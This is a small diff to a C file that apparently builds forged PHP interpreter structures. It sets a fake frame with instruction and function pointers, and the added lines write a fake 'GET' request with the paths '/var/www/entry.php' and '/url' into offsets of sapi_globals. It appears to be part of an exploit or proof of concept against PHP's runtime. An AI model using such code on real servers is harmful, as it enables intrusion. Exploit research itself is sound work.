@@ -41,6 +41,10 @@ static void build(const char *how)
 	static struct string file = {.length = 6, .text = "/x.php"},
 			     name = {.length = 4, .text = "send"};
 
+	/* main/SAPI.h: a request that can be read, before a stack that can't. */
+	put(sapi_globals + 8, address("GET"));
+	put(sapi_globals + 8 + 32, address("/var/www/entry.php"));
+	put(sapi_globals + 8 + 40, address("/url"));
 	frame[0] = address(instruction);
 	frame[3] = address(function);
 	instruction[3] = 7; /* line */
